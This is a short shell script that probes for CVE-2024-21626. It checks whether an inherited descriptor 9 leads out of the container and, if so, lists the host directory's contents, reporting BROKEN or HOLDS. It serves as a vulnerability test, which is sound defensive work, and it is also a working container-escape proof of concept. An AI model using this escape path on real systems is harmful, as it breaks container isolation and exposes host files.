#!/bin/sh
# leak.sh: an open directory of the host's, inherited as a descriptor, is a way out for everybody
# (CVE-2024-21626). Whoever starts us has one open as 9.
if [ -e /proc/self/fd/9 ]; then
  cd /proc/self/fd/9/ && echo "BROKEN: descriptor 9 leads to the host:" *
else
  echo 'HOLDS: descriptor 9 is not open'
fi
